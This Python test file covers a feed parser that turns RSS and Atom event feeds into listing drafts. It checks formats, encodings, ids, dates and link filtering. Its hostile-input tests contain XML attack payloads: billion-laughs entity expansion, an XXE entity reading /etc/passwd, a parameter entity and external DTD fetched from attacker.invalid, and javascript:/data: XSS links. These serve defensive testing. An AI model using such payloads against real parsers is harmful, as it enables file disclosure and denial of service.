"""Publisher feeds: the four formats, hostile prologs in every encoding, and per-entry rules."""

import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import feedparser.api
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingestion.drafts import BadItem, ListingDraft, ParseResult, PayloadError
from ingestion.parsers.feed import (
    MAX_DESCRIPTION_CHARS,
    MAX_MARKUP,
    MAX_PAYLOAD_BYTES,
    MAX_TITLE_CHARS,
    parse_feed,
)

FIXTURES = Path(__file__).parents[1] / "fixtures" / "feeds"
EV_NS = 'xmlns:ev="http://purl.org/rss/1.0/modules/event/"'
XCAL_NS = 'xmlns:xCal="urn:ietf:params:xml:ns:xcal"'


def rss(*items: str, prolog: str = "") -> bytes:
    channel = f"<channel><title>Hall</title>{''.join(items)}</channel>"
    return f'{prolog}<rss version="2.0" {EV_NS}>{channel}</rss>'.encode()


def item(title: str = "Gig", guid: str | None = "g1", extra: str = "") -> str:
    guid_element = "" if guid is None else f"<guid>{guid}</guid>"
    return f"<item><title>{title}</title>{guid_element}{extra}</item>"


def assert_accounted(result: ParseResult) -> None:
    """Each entry exactly once, and drafts within the limits the rest of ingestion relies on."""
    positions = [draft.position for draft in result.drafts] + [bad.position for bad in result.bad]
    assert sorted(p for p in positions if p is not None) == list(range(result.items))
    assert all(bad.reason for bad in result.bad)
    for draft in result.drafts:
        assert draft.external_id
        assert draft.title
        assert len(draft.title) <= MAX_TITLE_CHARS
        assert draft.title == " ".join(draft.title.split())
        assert len(draft.description) <= MAX_DESCRIPTION_CHARS
        assert draft.url == "" or urlsplit(draft.url).scheme.lower() in ("http", "https")
        for moment in (draft.starts_at, draft.ends_at):
            assert moment is None or moment.utcoffset() == timedelta(0)


def only_draft(payload: bytes) -> ListingDraft:
    result = parse_feed(payload)
    assert len(result.drafts) == 1, result
    assert not result.bad, result
    return result.drafts[0]


def only_bad(payload: bytes) -> BadItem:
    result = parse_feed(payload)
    assert len(result.bad) == 1, result
    assert not result.drafts, result
    return result.bad[0]


def rejection(payload: bytes) -> PayloadError:
    started = time.perf_counter()
    with pytest.raises(PayloadError) as caught:
        parse_feed(payload)
    assert time.perf_counter() - started < 1.0
    assert caught.value.permanent
    return caught.value


# --- the four formats --------------------------------------------------------------------


def test_it_reads_an_rss2_event_feed_with_every_field() -> None:
    result = parse_feed((FIXTURES / "rss20_events.xml").read_bytes())

    assert_accounted(result)
    jazz, fair = result.drafts
    assert jazz == ListingDraft(
        external_id="riverside-2025-0412",
        title="Jazz at the Riverside",
        position=0,
        description="An evening of jazz. Doors 7pm & bar open.",
        venue="Riverside Hall, Main Stage",
        starts_at=datetime(2025, 4, 12, 18, 30, tzinfo=UTC),
        ends_at=datetime(2025, 4, 12, 22, 0, tzinfo=UTC),
        url="https://riverside.example/events/jazz",
    )
    # content:encoded is preferred to the shorter description; a bare date is all day.
    assert fair.description == "Forty stalls, all day."
    assert (fair.starts_at, fair.all_day) == (datetime(2025, 4, 19, tzinfo=UTC), True)
    assert fair.external_id == fair.url == "https://riverside.example/events/craft-fair"


def test_it_reads_rss1_items_identified_by_rdf_about() -> None:
    result = parse_feed((FIXTURES / "rss10.rdf").read_bytes())

    assert [(d.external_id, d.title, d.url) for d in result.drafts] == [
        (
            "http://listings.example/talks/1",
            "Talk: rivers of London",
            "http://listings.example/talks/1",
        ),
        ("http://listings.example/talks/2", "Talk: bridges", "http://listings.example/talks/2"),
    ]
    assert result.drafts[0].description == "A local history talk."
    assert result.drafts[0].starts_at is None  # dc:date is when it was posted


def test_it_reads_rss091_with_netscapes_doctype_using_links_as_ids() -> None:
    result = parse_feed((FIXTURES / "rss091.xml").read_bytes())

    assert [(d.external_id, d.title) for d in result.drafts] == [
        ("http://theatre.example/hamlet", "Hamlet"),
        ("http://theatre.example/panto", "Pantomime"),
    ]


def test_it_reads_atom_stripping_html_titles_and_resolving_links_against_xml_base() -> None:
    result = parse_feed((FIXTURES / "atom10.xml").read_bytes())

    light, late = result.drafts
    assert light.external_id == "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"
    assert light.title == 'New exhibition: "Light"'
    assert light.description == "Opens in May. Free entry."
    assert light.url == "https://gallery.example/exhibitions/light"
    assert light.starts_at is None  # <updated> is not when the exhibition opens
    assert (late.title, late.description, late.url) == ("Late opening", "Every Friday.", "")


# --- entity declarations, DTDs and what feedparser is given -------------------------------


def billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    ]
    return f"<!DOCTYPE rss [{''.join(entities)}]>"


ATTACKS = {
    "billion laughs": (billion_laughs(), "&lol9;"),
    "xxe": ('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "parameter entity": (
        '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>',
        "x",
    ),
    "behind a comment with an element in it": (
        '<!-- <rss> --><!DOCTYPE rss [<!ENTITY a "aaaa">]>',
        "&a;",
    ),
    "behind a literal with an element in it": (
        '<!DOCTYPE rss SYSTEM "<rss>]>" [<!ENTITY a "aaaa">]>',
        "&a;",
    ),
    "after a comment that closes the subset": (
        '<!DOCTYPE rss [<!-- ]> --><!ENTITY a "aaaa">]>',
        "&a;",
    ),
    "split by a character XML forbids": ('<!DOCTYPE rss [<!EN\x00TITY a "aaaa">]>', "&a;"),
    # expat checks amplification only past 8 MiB of output: feedparser alone makes this
    # 13 kB feed an 8 MB title.
    "within expat's own amplification limit": (
        f'<!DOCTYPE rss [<!ENTITY big "{"x" * 8000}">]>',
        "&big;" * 1000,
    ),
}
ENCODINGS = ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "iso-8859-1", "utf-7"]


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_it_rejects_entity_declarations_quickly_in_any_encoding(attack: str, encoding: str) -> None:
    doctype, reference = ATTACKS[attack]
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
    document = declaration + rss(item(title=reference), prolog=doctype).decode()

    error = rejection(document.encode(encoding))

    assert error.reason == "entity declarations are not allowed"


_OPEN_WATCHERS: list[list[str]] = []


def _note_open(event: str, args: tuple[Any, ...]) -> None:
    if _OPEN_WATCHERS and event in ("open", "urllib.Request"):
        _OPEN_WATCHERS[-1].append(str(args[0]))  # a path, a file descriptor or a URL


# An audit hook can't be removed, so it is added once and keeps nothing unless a test
# watches: opening a file is the one step every way of reading it goes through.
sys.addaudithook(_note_open)


@contextmanager
def watching_opens() -> Iterator[list[str]]:
    """Every path the process opens and URL urllib requests inside the block."""
    paths: list[str] = []
    _OPEN_WATCHERS.append(paths)
    try:
        yield paths
    finally:
        _OPEN_WATCHERS.remove(paths)


# feedparser's own regexes drop declarations that begin a line; on the declaration's line
# they reach expat.
@pytest.mark.parametrize("separator", ["", "\n"], ids=["one line", "a line each"])
def test_it_never_reads_a_file_an_external_entity_names(separator: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SENTINEL-CONTENT")
    entity = f'<!ENTITY xxe SYSTEM "file://{secret}">'
    prolog = separator.join(('<?xml version="1.0"?>', "<!DOCTYPE rss [", entity, "]>", ""))

    with watching_opens() as opened:
        error = rejection(rss(item(title="&xxe;"), prolog=prolog))

    assert error.reason == "entity declarations are not allowed"
    assert not [path for path in opened if "secret.txt" in path]


def test_it_never_loads_the_dtd_an_rss_doctype_names(tmp_path: Path) -> None:
    dtd = tmp_path / "rss.dtd"
    dtd.write_text('<!ENTITY secret "SENTINEL-CONTENT">')
    doctype = f'<!DOCTYPE rss SYSTEM "{dtd}">'

    with watching_opens() as opened:
        draft = only_draft(rss(item(title="a &secret; b"), prolog=doctype))

    assert "SENTINEL-CONTENT" not in draft.title
    assert not [path for path in opened if "rss.dtd" in path]


def test_it_rejects_an_external_dtd_for_anything_but_rss() -> None:
    atom = b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>x</title></entry></feed>'

    error = rejection(b'<!DOCTYPE feed SYSTEM "http://attacker.invalid/x.dtd">' + atom)

    assert error.reason == "external DTDs are not allowed"


def test_entity_declarations_after_the_root_element_are_never_expanded() -> None:
    document = rss(item(title="&lol9;")).replace(
        b"<channel>", billion_laughs().encode() + b"<channel>"
    )

    started = time.perf_counter()
    result = parse_feed(document)

    assert time.perf_counter() - started < 1.0
    assert all("lollol" not in draft.title for draft in result.drafts)


@pytest.fixture
def feedparser_spy(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """What feedparser is asked to open; any attempt to fetch a URL fails the test."""
    opened: list[object] = []
    open_resource = feedparser.api._open_resource

    def spy(source: object, *args: Any) -> bytes:
        opened.append(source)
        data: bytes = open_resource(source, *args)
        return data

    def no_fetching(*args: object, **kwargs: object) -> bytes:
        raise AssertionError("feedparser tried to fetch a URL")

    monkeypatch.setattr(feedparser.api, "_open_resource", spy)
    monkeypatch.setattr(feedparser.api.http, "get", no_fetching)
    return opened


def test_feedparser_only_ever_gets_a_stream(feedparser_spy: list[object]) -> None:
    parse_feed(rss(item()))

    assert feedparser_spy
    assert all(hasattr(source, "read") for source in feedparser_spy)


@pytest.mark.parametrize("name", ["feed.xml", "http://127.0.0.1:9/feed.xml"])
def test_a_payload_that_is_a_path_or_url_is_not_opened(
    name: str, tmp_path: Path, feedparser_spy: list[object]
) -> None:
    (tmp_path / "feed.xml").write_bytes(rss(item()))
    payload = str(tmp_path / name) if name == "feed.xml" else name

    error = rejection(payload.encode())

    assert error.reason == "not a feed: no XML root element"


def test_the_passwd_path_as_a_payload_is_rejected_without_reading_the_file() -> None:
    error = rejection(b"/etc/passwd")

    assert "root:" not in f"{error.reason} {error.excerpt}"


@pytest.mark.parametrize(
    "prolog",
    [
        "\n" * 200_000,  # feedparser alone: quadratic, minutes
        "<?xml version='1.0' " + 'encoding="' * 20_000 + "?>",  # feedparser alone: hangs
        "<!-- long comment -->" * 10_000,
    ],
    ids=["blank lines", "crafted declaration", "comments"],
)
# feedparser runs its prolog regexes before choosing its strict or its loose parser (for
# ill-formed feeds, here one without </rss>): both must see only our one-line prolog.
@pytest.mark.parametrize("strip", [b"", b"</rss>"], ids=["well-formed", "ill-formed"])
def test_a_hostile_prolog_costs_linear_time(prolog: str, strip: bytes) -> None:
    document = rss(item(), prolog=prolog).removesuffix(strip)
    started = time.perf_counter()

    draft = only_draft(document)

    assert time.perf_counter() - started < 1.0
    assert draft.title == "Gig"


# --- whole payloads that are not feeds -----------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"", "empty payload"),
        (b" \r\n\t", "empty payload"),
        (
            b"<!DOCTYPE html><html><body><p>Maintenance</p></body></html>",
            "not a feed: an HTML page",
        ),
        (b"<html><body><p>Login</p></body></html>", "not a feed: root element <html> is not"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "not a feed: JSON"),
        (b"<note><to>Tove</to></note>", "not a feed: root element <note> is not RSS or Atom"),
        (bytes(range(256)) * 4, "not a feed"),
        (b"<!-- never closed <rss>", "not a feed: unterminated comment"),
    ],
    ids=["empty", "blank", "html5", "html", "json", "other xml", "random", "unclosed comment"],
)
def test_it_rejects_what_is_not_a_feed_saying_why(payload: bytes, reason: str) -> None:
    assert rejection(payload).reason.startswith(reason)


def test_an_empty_feed_is_an_empty_result_not_an_error() -> None:
    assert parse_feed(rss()) == ParseResult()


def test_an_ill_formed_feed_that_yields_entries_is_read_normally() -> None:
    broken = b'<rss version="2.0"><channel><item><title>Fish & Chips</title><guid>a</guid></item>'
    broken += b"<item><title>Quiz night</title><guid>b</guid></item></channel>"  # no </rss>

    result = parse_feed(broken)

    assert [draft.title for draft in result.drafts] == ["Fish & Chips", "Quiz night"]


def test_it_rejects_payloads_over_the_size_and_tag_caps_without_parsing_them() -> None:
    assert rejection(b" " * (MAX_PAYLOAD_BYTES + 1)).reason.startswith("payload larger than")
    assert rejection(b"<rss>" + b"<a/>" * MAX_MARKUP).reason == f"more than {MAX_MARKUP} tags"


# --- encodings -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "declared", "title"),
    [
        # Beyond Latin-1: UTF-16 of Latin-1 text would also read as Latin-1 once NULs go.
        ("utf-16", "UTF-16", "Café — 東京"),  # with a byte-order mark
        ("utf-16-le", "UTF-16", "Café — 東京"),  # without one
        ("utf-16-be", "", "Café — 東京"),
        ("utf-32", "UTF-32", "Café — 東京"),
        ("utf-32-be", "", "Café — 東京"),
        ("utf-8-sig", "utf-8", "Café — 東京"),
        ("iso-8859-1", "ISO-8859-1", "Café à la carte"),
    ],
)
def test_it_decodes_the_encodings_feeds_come_in(encoding: str, declared: str, title: str) -> None:
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    document = declaration + rss(item(title=title)).decode()

    assert only_draft(document.encode(encoding)).title == title


def test_it_reads_gbk_text_labelled_gb2312() -> None:
    document = '<?xml version="1.0" encoding="gb2312"?>' + rss(item(title="朱镕基 讲座")).decode()

    assert only_draft(document.encode("gbk")).title == "朱镕基 讲座"


def test_undeclared_bytes_that_are_not_utf8_are_read_as_windows_1252() -> None:
    payload = rss(item(title="@Quoted@ café")).replace(b"@", b"\x93", 1).replace(b"@", b"\x94")

    assert only_draft(payload.replace("é".encode(), b"\xe9")).title == "\u201cQuoted\u201d café"


def test_a_utf16_declaration_in_ascii_bytes_is_not_believed() -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?>' + rss(item(title="Plain")).decode()

    assert only_draft(document.encode("ascii")).title == "Plain"


# --- titles, descriptions, links, venues ---------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("&lt;b&gt;Bold&lt;/b&gt; news", "Bold news"),
        ("<![CDATA[<p>Item <em>Title</em></p>]]>", "Item Title"),
        ("I &lt;3 jazz &amp; blues, 1 &lt; 2", "I <3 jazz & blues, 1 < 2"),
        ("  Open\n\t mic  ", "Open mic"),
        ("ab\x08cd", "abcd"),
    ],
    ids=["escaped html", "cdata html", "plain text with <", "whitespace", "control character"],
)
def test_it_strips_markup_and_whitespace_from_titles(title: str, expected: str) -> None:
    assert only_draft(rss(item(title=title))).title == expected


def test_it_strips_html_from_descriptions_and_caps_their_length() -> None:
    html = "<p>Hi<!-- editor note --> there</p><script>alert(1)</script><br/>Next&amp;line"
    long_text = "word " * 2000
    drafts = parse_feed(
        rss(
            item(guid="a", extra=f"<description><![CDATA[{html}]]></description>"),
            item(guid="b", extra=f"<description>{long_text}</description>"),
        )
    ).drafts

    assert drafts[0].description == "Hi there Next&line"
    assert len(drafts[1].description) == MAX_DESCRIPTION_CHARS


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        ("https://hall.example/gig?a=1&amp;b=2", "https://hall.example/gig?a=1&b=2"),
        ("HTTP://HALL.EXAMPLE/gig", "HTTP://HALL.EXAMPLE/gig"),
        ("javascript:alert(1)", ""),
        ("JavaScript:alert(1)", ""),
        ("data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;", ""),
        ("/relative/without/base", ""),
        ("ftp://hall.example/gig", ""),
        ("http://", ""),
        ("http://[broken/gig", ""),
    ],
)
def test_it_keeps_only_http_links(link: str, kept: str) -> None:
    assert only_draft(rss(item(extra=f"<link>{link}</link>"))).url == kept


def test_it_takes_the_venue_from_event_extensions() -> None:
    ev = item(guid="a", extra="<ev:location>The &lt;b&gt;Big&lt;/b&gt; Hall</ev:location>")
    xcal = item(guid="b", extra=f"<xCal:location {XCAL_NS}>Crypt</xCal:location>")

    assert [draft.venue for draft in parse_feed(rss(ev, xcal)).drafts] == ["The Big Hall", "Crypt"]


# --- ids -------------------------------------------------------------------------------------


def test_without_id_or_link_the_id_is_a_stable_hash_of_title_and_published_date() -> None:
    def feed(*published: str) -> bytes:
        return rss(*(item(guid=None, extra=f"<pubDate>{day}</pubDate>") for day in published))

    tuesday, friday = "Tue, 01 Apr 2025 09:00:00 GMT", "Fri, 04 Apr 2025 09:00:00 GMT"
    first = parse_feed(feed(tuesday, friday))
    again = parse_feed(feed(tuesday))

    ids = [draft.external_id for draft in first.drafts]
    assert all(external_id.startswith("noid:") for external_id in ids)
    assert len(set(ids)) == 2  # the same weekly title on two days is two listings
    assert again.drafts[0].external_id == ids[0]


def test_it_keeps_the_first_of_duplicate_ids_and_says_where_it_was() -> None:
    result = parse_feed(rss(item("One", "a"), item("Two", "b"), item("One again", "a")))

    assert_accounted(result)
    assert [draft.title for draft in result.drafts] == ["One", "Two"]
    (duplicate,) = result.bad
    assert (duplicate.position, duplicate.external_id) == (2, "a")
    assert duplicate.reason == "duplicate id in payload (first at position 0)"
    assert "One again" in duplicate.excerpt


def test_a_duplicate_of_a_bad_entry_is_still_a_duplicate() -> None:
    result = parse_feed(rss(item("", "a"), item("Fixed", "a")))

    assert [bad.reason for bad in result.bad] == [
        "no title",
        "duplicate id in payload (first at position 0)",
    ]


def test_titleless_entries_without_id_are_not_taken_for_duplicates() -> None:
    result = parse_feed(rss(item("", None), item("", None), item("Kept", None)))

    assert [bad.reason for bad in result.bad] == ["no title", "no title"]
    assert [bad.external_id for bad in result.bad] == [None, None]
    assert [draft.title for draft in result.drafts] == ["Kept"]


# --- bad entries -----------------------------------------------------------------------------


def test_it_keeps_good_entries_and_quarantines_a_titleless_one_with_its_position() -> None:
    result = parse_feed(
        rss(
            item("Quiz", "a"),
            item("&lt;b&gt;&lt;/b&gt;", "b", extra="<link>https://hall.example/b</link>"),
            item("Choir", "c"),
        )
    )

    assert_accounted(result)
    assert [(draft.position, draft.title) for draft in result.drafts] == [(0, "Quiz"), (2, "Choir")]
    (bad,) = result.bad
    assert (bad.position, bad.external_id, bad.reason) == (1, "b", "no title")
    assert "https://hall.example/b" in bad.excerpt


def test_a_title_over_the_limit_is_quarantined_not_cut() -> None:
    at_limit = only_draft(rss(item("x" * MAX_TITLE_CHARS)))
    over = only_bad(rss(item("x" * (MAX_TITLE_CHARS + 1))))

    assert at_limit.title == "x" * MAX_TITLE_CHARS
    assert over.reason == f"title longer than {MAX_TITLE_CHARS} characters"


@pytest.mark.parametrize(
    ("element", "expected"),
    [
        (
            "<ev:startdate>2025-04-12T19:30:00+01:00</ev:startdate>",
            datetime(2025, 4, 12, 18, 30, tzinfo=UTC),
        ),
        (
            "<ev:startdate>Sat, 12 Apr 2025 19:30:00 +0100</ev:startdate>",
            datetime(2025, 4, 12, 18, 30, tzinfo=UTC),
        ),
        (
            "<ev:startdate>2025-04-12T19:30:00</ev:startdate>",
            datetime(2025, 4, 12, 19, 30, tzinfo=UTC),
        ),
        (
            f"<xCal:dtstart {XCAL_NS}>20250412T183000Z</xCal:dtstart>",
            datetime(2025, 4, 12, 18, 30, tzinfo=UTC),
        ),
        ("<pubDate>Sat, 12 Apr 2025 19:30:00 +0100</pubDate>", None),
    ],
    ids=["iso with offset", "rfc 822", "naive is utc", "xcal", "pubDate is not a start"],
)
def test_it_reads_event_start_times_as_utc(element: str, expected: datetime | None) -> None:
    draft = only_draft(rss(item(extra=element)))

    assert draft.starts_at == expected
    assert not draft.all_day


@pytest.mark.parametrize(
    ("element", "reason"),
    [
        ("<ev:startdate>1850-06-01</ev:startdate>", "start date out of range: '1850-06-01'"),
        ("<ev:startdate>2150-06-01T10:00Z</ev:startdate>", "start date out of range"),
        ("<ev:startdate>0001-01-01T00:00:00+01:00</ev:startdate>", "start date out of range"),
        ("<ev:startdate>next Tuesday</ev:startdate>", "start date not readable: 'next Tuesday'"),
        ("<ev:startdate>2025-02-30</ev:startdate>", "start date not readable"),
        ("<ev:enddate>soon</ev:enddate>", "end date not readable: 'soon'"),
    ],
)
def test_an_unusable_event_date_quarantines_the_entry(element: str, reason: str) -> None:
    bad = only_bad(rss(item(extra=element)))

    assert bad.reason.startswith(reason)
    assert (bad.position, bad.external_id) == (0, "g1")


def test_entries_over_the_cap_are_each_a_bad_item_so_the_counts_stay_exact() -> None:
    result = parse_feed(rss(*(item(f"Gig {n}", f"g{n}") for n in range(5))), max_items=3)

    assert_accounted(result)
    assert [draft.title for draft in result.drafts] == ["Gig 0", "Gig 1", "Gig 2"]
    assert [(bad.position, bad.external_id, bad.reason) for bad in result.bad] == [
        (3, "g3", "over the per-payload item cap"),
        (4, "g4", "over the per-payload item cap"),
    ]


# --- anything at all -------------------------------------------------------------------------

FEED_PIECES = st.sampled_from(
    [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<rss version="2.0">',
        f"<rss {EV_NS}>",
        '<feed xmlns="http://www.w3.org/2005/Atom">',
        "<channel>",
        "<item>",
        "</item>",
        "<entry>",
        "</entry>",
        "<title>",
        "</title>",
        '<title type="html">',
        "<guid>",
        "</guid>",
        "<id>",
        "</id>",
        "<link>",
        "</link>",
        "<description>",
        "</description>",
        "<ev:startdate>",
        "</ev:startdate>",
        "<ev:location>",
        "</ev:location>",
        "<pubDate>",
        "</pubDate>",
        "&amp;",
        "&lt;b&gt;",
        "&nbsp;",
        "<![CDATA[",
        "]]>",
        "<!DOCTYPE rss [",
        '<!ENTITY x "y">',
        "]>",
        "<!--",
        "-->",
        "javascript:",
        "https://hall.example/",
        "2025-04-12",
        "1850-01-01",
        "Sat, 12 Apr 2025 19:30:00 +0100",
        "\x00",
        "\ufeff",
        "é",
    ]
)
FEEDS = st.lists(FEED_PIECES | st.text(max_size=12), max_size=40).map("".join)
ENCODE_AS = st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252"])


def parsed_or_rejected(payload: bytes, max_items: int = 5000) -> ParseResult | PayloadError:
    try:
        return parse_feed(payload, max_items=max_items)
    except PayloadError as error:
        return error


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_any_bytes_give_an_accounted_result_or_a_payload_error(payload: bytes) -> None:
    outcome = parsed_or_rejected(payload)

    if isinstance(outcome, PayloadError):
        assert outcome.reason
    else:
        assert_accounted(outcome)


@settings(max_examples=300, deadline=None)
@given(FEEDS, ENCODE_AS, st.integers(min_value=0, max_value=3))
def test_any_feed_shaped_text_gives_an_accounted_result_or_a_payload_error(
    document: str, encoding: str, max_items: int
) -> None:
    outcome = parsed_or_rejected(document.encode(encoding, "replace"), max_items)

    if isinstance(outcome, PayloadError):
        assert outcome.reason
    else:
        assert_accounted(outcome)
        assert len(outcome.drafts) <= max_items
